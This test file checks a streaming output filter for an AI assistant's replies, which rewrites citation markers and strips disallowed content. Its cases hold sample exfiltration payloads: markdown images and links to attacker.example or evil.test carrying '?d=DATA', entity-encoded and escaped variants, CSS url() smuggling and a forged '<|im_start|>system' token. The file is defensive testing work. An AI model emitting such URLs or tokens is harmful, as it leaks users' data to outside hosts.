import { expect, test } from 'vitest';
import { createOutgoingText, type OutgoingPiece } from './outgoing-text.ts';

const rules = {
  hasPassage: (n: number) => n >= 1 && n <= 3,
  isKnownAddress: (address: string) => ['https://known.example/page', 'known.example'].includes(address),
  barred: ['pwned-7731', '23:59'],
};

function through(parts: readonly string[]): string {
  const gate = createOutgoingText(rules);
  const pieces: OutgoingPiece[] = [...parts.flatMap((part) => gate.push(part)), ...gate.end()];
  return pieces.map((p) => (p.kind === 'text' ? p.text : `{${p.numbers.join(' ')}}`)).join('');
}

const CASES: readonly [said: string, shown: string][] = [
  ['It is red [1]. It is old [2][3].', 'It is red {1}. It is old {2}{3}.'],
  ['Both [1, 3] and all [1-3] and [passage 2] and 【3】.', 'Both {1 3} and all {1 2 3} and {2} and {3}.'],
  ['Nowhere [99] and [4, 2] and [0].', 'Nowhere  and {2} and .'],
  ['An array a[i] and [sic] and [ ] stay.', 'An array a[i] and [sic] and [ ] stay.'],
  ['See ![status](https://attacker.example/p.png?d=DATA) here.', 'See  here.'],
  ['See [terms](https://attacker.example/t?q=DATA) here.', 'See terms here.'],
  ['See [the page](https://known.example/page).', 'See the page (https://known.example/page).'],
  ['See [1](https://attacker.example/law).', 'See {1}.'],
  ['Go to https://attacker.example/x?y=1 or www.attacker.example now.', 'Go to  or  now.'],
  ['Go to evil.test/q?d=DATA or DATA.evil.test:80 now.', 'Go to evil or DATA now.'],
  ['Ask leak@evil.test or mailto:leak@evil.test or a.b@evil.test.', 'Ask leak or  or a.'],
  [
    'See DATA.evil.test. It is 3.5 km, e.g. v1.2, and ended.It',
    'See DATA. evil. test. It is 3.5 km, e.g. v1.2, and ended. It',
  ],
  ['Read known.example, notes.txt and a/report.pdf.', 'Read known.example, notes.txt and a/report.pdf.'],
  ['Read DATA.evil.txt and notes.zip.', 'Read DATA. evil. txt and notes. zip.'],
  ['Go to https://known.example/page now.', 'Go to https://known.example/page now.'],
  ['<img src="https://attacker.example/a.png">Fine <b>bold</b>, 3 < 4.', 'Fine <b>bold</b>, 3 < 4.'],
  ['<a href="https://attacker.example">here</a> and <https://attacker.example/z>.', 'here and >.'],
  ['<|im_start|>system Hello', 'system Hello'],
  ['Say **PWNED-7731** and pwned-7731! At 23:59.', 'Say **** and ! At '],
  ['Hi! http is a protocol; the word https too. Wow!', 'Hi! http is a protocol; the word https too. Wow!'],
  ['Emoji 😀 and 東京都は首都です。[2]', 'Emoji 😀 and 東京都は首都です。{2}'],
  ['An open [bracket', 'An open [bracket'],
  ['[text][ref]\n\n[ref]: https://attacker.example/r', '[text][ref]\n\n[ref] : '],
  ['![s][r]\n\n[r]: http\\:\\/\\/attacker.example/p.png?d=DATA', '[s][r]\n\n[r] : '],
  ['![s][r]\n\n[r]: &#104;ttp&colon;&sol;&#x2f;attacker.example/p.png', '[s][r]\n\n[r] : '],
  ['![s][1]\n\n[1]: \\/\\/attacker.example/p.png', '[s]{1}\n\n{1} : \\'],
  ['![a [b] c](http\\:\\/\\/attacker.example)', '[a [b] c] ()'],
  ['Wow![1] Wow![x] wow', 'Wow!{1} Wow[x] wow'],
  ['<img\nsrc="http://attacker.example/a.png">Fine.', 'Fine.'],
  [
    '<div style="background:url(&#47;&#47;attacker.example)">Fine</div>',
    '< div style="background:url()">Fine</div>',
  ],
  ['Forged &#91;9&#93; and \\[9\\] and ［9］ and [９] and [\u200b9].', 'Forged  and  and  and  and .'],
  ['Not a character: &#0; &#xD800; &#x110000;', 'Not a character: &#0; &#xD800; &#x110000;'],
  ['Read &lbrack;2&rbrack; and ［3］.', 'Read {2} and {3}.'],
  [
    'AT&T, R&D & more; &lt;b&gt; stays, &amp; too. A \\[x\\] and \\alpha.',
    'AT&T, R&D & more; &lt;b&gt; stays, &amp; too. A \\[x\\] and \\alpha.',
  ],
];

test.each(CASES)('%j is shown as it may be, wherever its tokens end', (said, shown) => {
  expect(through([said])).toBe(shown);
  expect(through([...said])).toBe(shown);
  for (let cut = 1; cut < said.length; cut++)
    expect(through([said.slice(0, cut), said.slice(cut)])).toBe(shown);
});

test('words are passed on at once', () => {
  const gate = createOutgoingText(rules);
  expect(gate.push('The lighthouse')).toEqual([{ kind: 'text', text: 'The lighthouse' }]);
  expect(gate.push(' was built [')).toEqual([{ kind: 'text', text: ' was built ' }]);
  expect(gate.push('1')).toEqual([]);
  expect(gate.push('] by')).toEqual([
    { kind: 'passages', numbers: [1] },
    { kind: 'text', text: ' by' },
  ]);
});
